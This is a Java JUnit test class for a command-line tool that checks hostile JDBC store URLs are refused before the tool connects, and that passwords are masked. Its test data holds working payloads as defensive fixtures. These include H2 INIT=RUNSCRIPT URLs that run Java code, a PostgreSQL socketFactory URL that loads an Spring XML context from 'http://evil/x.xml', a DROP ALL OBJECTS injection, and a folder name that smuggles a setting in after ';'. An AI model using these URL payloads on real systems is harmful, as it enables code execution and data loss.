package de.nrw.coop.cli;

import static org.assertj.core.api.Assertions.assertThat;

import de.nrw.coop.cli.Cli.Run;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Store URLs that would run code, write files or lose data are refused before any connection:
 * exit 2, the message names the setting, no credentials are shown. Input files that are not
 * regular files say what they are (exit 66).
 */
class HostileUrlTest {

    @TempDir
    Path temp;

    private Run run(Map<String, String> extraEnv, String... args) {
        Map<String, String> env = new HashMap<>(Map.of(CoopCommand.ENV_HOME, temp.resolve("home").toString()));
        env.putAll(extraEnv);
        return Cli.run(env, args);
    }

    /** A script that, if H2 ever ran it, would run Java and leave a file behind. */
    private Path evilScript(Path marker) throws Exception {
        Path script = temp.resolve("evil.sql");
        Files.writeString(script, "CREATE ALIAS MARK AS 'String mark(String p) throws Exception {"
                + " java.nio.file.Files.writeString(java.nio.file.Path.of(p), \"pwned\"); return p; }';\n"
                + "CALL MARK('" + marker + "');\n", StandardCharsets.UTF_8);
        return script;
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            jdbc:h2:mem:y;INIT=RUNSCRIPT FROM '@SCRIPT@'                | the H2 setting INIT is not allowed in a store URL (it runs SQL, and through it Java code, when the store opens)
            jdbc:h2:file:DIR/x;init=runscript from '@SCRIPT@'           | the H2 setting INIT is not allowed
            jdbc:h2:file:DIR/x;INIT=RUNSCRIPT FROM 'http://127.0.0.1:9/evil.sql' | the H2 setting INIT is not allowed
            jdbc:h2:file:DIR/x;TRACE_LEVEL_FILE=4                     | the H2 setting TRACE_LEVEL_FILE is not allowed in a store URL (it writes trace files)
            jdbc:h2:file:DIR/x;TRACE_LEVEL_SYSTEM_OUT=3               | the H2 setting TRACE_LEVEL_SYSTEM_OUT is not allowed
            jdbc:h2:file:DIR/x;TRACE_MAX_FILE_SIZE=1000               | the H2 setting TRACE_MAX_FILE_SIZE is not allowed
            jdbc:h2:file:DIR/x;FILE_LOCK=NO                           | the H2 setting FILE_LOCK is not allowed
            jdbc:h2:file:DIR/x;MODE=PostgreSQL;INIT=SET X 1           | the H2 setting MODE is not allowed
            jdbc:h2:file:DIR/x;AUTHREALM=x                            | the H2 setting AUTHREALM is not allowed
            jdbc:h2:file:DIR/x;CREDENTIALS_VALIDATOR=x                | the H2 setting CREDENTIALS_VALIDATOR is not allowed
            jdbc:h2:file:DIR/x;JMX=TRUE                               | the H2 setting JMX is not allowed
            jdbc:h2:file:DIR/x;RUNSCRIPT                              | holds 'RUNSCRIPT' where a setting NAME=VALUE belongs
            jdbc:h2:file:DIR/x;INIT=RUNSCRIPT FROM 'a'\\;DROP ALL OBJECTS | the H2 setting INIT is not allowed
            jdbc:h2:tcp://127.0.0.1:9092/~/coop                      | the H2 server URL 'jdbc:h2:tcp://127.0.0.1:9092/~/coop' is refused: coop connects to a remote H2 server only with --db-allow-tcp
            jdbc:h2:ssl://127.0.0.1:9092/~/coop                      | is refused: coop connects to a remote H2 server only with --db-allow-tcp
            jdbc:h2:zip:DIR/x.zip!/coop                               | uses 'zip:', which coop does not open
            jdbc:h2:nio:DIR/x                                         | uses 'nio:', which coop does not open
            jdbc:postgresql://127.0.0.1:1/coop?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml | the PostgreSQL parameter socketFactory is not allowed in a store URL (it makes the driver load a class named in the URL)
            jdbc:postgresql://127.0.0.1:1/coop?sslfactory=x.Y         | the PostgreSQL parameter sslfactory is not allowed
            jdbc:postgresql://127.0.0.1:1/coop?sslFactory=x.Y         | the PostgreSQL parameter sslFactory is not allowed
            jdbc:postgresql://127.0.0.1:1/coop?sslhostnameverifier=x.Y | the PostgreSQL parameter sslhostnameverifier is not allowed
            jdbc:postgresql://127.0.0.1:1/coop?sslpasswordcallback=x.Y | the PostgreSQL parameter sslpasswordcallback is not allowed
            jdbc:postgresql://127.0.0.1:1/coop?authenticationPluginClassName=x.Y | the PostgreSQL parameter authenticationPluginClassName is not allowed
            jdbc:postgresql://127.0.0.1:1/coop?loggerLevel=TRACE&loggerFile=DIR/pg.log | the PostgreSQL parameter loggerLevel is not allowed in a store URL (it writes files)
            jdbc:postgresql://127.0.0.1:1/coop?loggerFile=DIR/pg.log  | the PostgreSQL parameter loggerFile is not allowed in a store URL (it writes files)
            jdbc:postgresql://127.0.0.1:1/coop?ssl=true&%73ocketFactory=x.Y | the PostgreSQL parameter socketFactory is not allowed
            jdbc:postgresql://127.0.0.1:1/coop?service=evil           | the PostgreSQL parameter service is not allowed in a store URL (it reads further parameters from a file)
            jdbc:mysql://admin:s3cret-pw@127.0.0.1/coop               | unsupported JDBC URL 'jdbc:mysql://admin:***@127.0.0.1/coop'
            jdbc:sqlite:DIR/coop.db                                   | unsupported JDBC URL
            jdbc:derby:memory:x;create=true                           | unsupported JDBC URL
            """)
    void aStoreUrlThatRunsCodeOrWritesFilesIsRefusedWithExit2NamingTheSetting(String url, String message)
            throws Exception {
        Path marker = temp.resolve("pwned");
        String concrete = url.replace("@SCRIPT@", evilScript(marker).toString()).replace("DIR", temp.toString());
        for (String command : new String[] {"init", "inquiry list"}) {
            String[] args = ("--db|" + concrete + "|" + command.replace(' ', '|')).split("\\|");

            Run run = run(Map.of(), args);

            assertThat(run.code()).as(run.err()).isEqualTo(ExitCode.USAGE);
            assertThat(run.err()).startsWith("coop: ").contains(message).doesNotContain("s3cret-pw")
                    .doesNotContain("\tat ");
        }
        assertThat(marker).doesNotExist();
        assertThat(temp.resolve("pg.log")).doesNotExist();
        try (var files = Files.list(temp)) {
            assertThat(files.map(p -> p.getFileName().toString())).containsExactlyInAnyOrder("evil.sql");
        }
    }

    @Test
    void theSameUrlFromTheEnvironmentIsRefusedAlike() throws Exception {
        Path marker = temp.resolve("pwned");
        Run run = run(Map.of(CoopCommand.ENV_URL, "jdbc:h2:mem:y;INIT=RUNSCRIPT FROM '" + evilScript(marker) + "'"),
                "import", evilScript(marker).toString());
        assertThat(run.code()).isEqualTo(ExitCode.USAGE);
        assertThat(run.err()).contains("the H2 setting INIT is not allowed");
        assertThat(marker).doesNotExist();
    }

    @Test
    void anInMemoryStoreIsRefusedForCommandsThatWriteButServesReading() throws Exception {
        Path file = temp.resolve("a.yaml");
        Files.writeString(file, "countries:\n  - code: JP\n    name: Japan\n", StandardCharsets.UTF_8);
        for (String command : new String[] {"import", "init"}) {
            Run run = command.equals("init") ? run(Map.of(), "--db", "jdbc:h2:mem:y", "init")
                    : run(Map.of(), "--db", "jdbc:h2:mem:y", "import", file.toString());
            assertThat(run.code()).isEqualTo(ExitCode.USAGE);
            assertThat(run.err()).isEqualTo("coop: the store jdbc:h2:mem:y lives in memory and is gone when this command"
                    + " ends, so nothing written into it would be kept; use jdbc:h2:file:PATH or PostgreSQL"
                    + System.lineSeparator());
        }
        Run list = run(Map.of(), "--db", "jdbc:h2:mem:y", "inquiry", "list");
        assertThat(list.code()).as(list.err()).isZero();
    }

    @Test
    void aCoopHomeWithASemicolonIsRefusedAndNeverBecomesASetting() throws Exception {
        Path marker = temp.resolve("pwned");
        String home = temp + "/x;INIT=RUNSCRIPT FROM '" + evilScript(marker) + "'";
        for (String command : new String[] {"init", "inquiry list"}) {
            String[] args = command.split(" ");

            Run run = Cli.run(Map.of(CoopCommand.ENV_HOME, home), args);

            assertThat(run.code()).isEqualTo(ExitCode.USAGE);
            assertThat(run.err()).startsWith("coop: the store folder '" + home + "' holds ';', which H2 reads as the"
                    + " start of a setting; choose a folder without ';' (COOP_HOME)");
        }
        assertThat(marker).doesNotExist();
    }

    @Test
    void aPasswordInAnyUrlShownIsMasked() {
        Run run = run(Map.of(), "--db", "jdbc:postgresql://127.0.0.1:1/coop?password=s3cret-pw&connectTimeout=1",
                "inquiry", "list");
        assertThat(run.code()).isEqualTo(ExitCode.IO_ERR);
        assertThat(run.err()).contains("password=***").doesNotContain("s3cret-pw");
    }

    @Test
    void aDirectoryAFifoDevNullAndAMissingFileEachSayWhatIsTrue() throws Exception {
        Path dir = Files.createDirectory(temp.resolve("folder.yaml"));
        Path fifo = temp.resolve("pipe.yaml");
        Process mkfifo = new ProcessBuilder("mkfifo", fifo.toString()).start();
        assertThat(mkfifo.waitFor(10, TimeUnit.SECONDS)).isTrue();
        assertThat(mkfifo.exitValue()).isZero();
        Path missing = temp.resolve("missing.yaml");
        String nl = System.lineSeparator();

        assertThat(run(Map.of(), "import", dir.toString())).extracting(Run::code, Run::err)
                .containsExactly(ExitCode.NO_INPUT, "coop: " + dir + ": is a directory, not a dataset file" + nl);
        assertThat(run(Map.of(), "import", fifo.toString())).extracting(Run::code, Run::err)
                .containsExactly(ExitCode.NO_INPUT, "coop: " + fifo + ": is not a regular file (a device, a pipe or a"
                        + " socket); name a dataset file" + nl);
        assertThat(run(Map.of(), "import", "/dev/null")).extracting(Run::code, Run::err)
                .containsExactly(ExitCode.NO_INPUT, "coop: /dev/null: is not a regular file (a device, a pipe or a"
                        + " socket); name a dataset file" + nl);
        assertThat(run(Map.of(), "import", missing.toString())).extracting(Run::code, Run::err)
                .containsExactly(ExitCode.NO_INPUT, "coop: " + missing + ": no such file" + nl);
    }
}
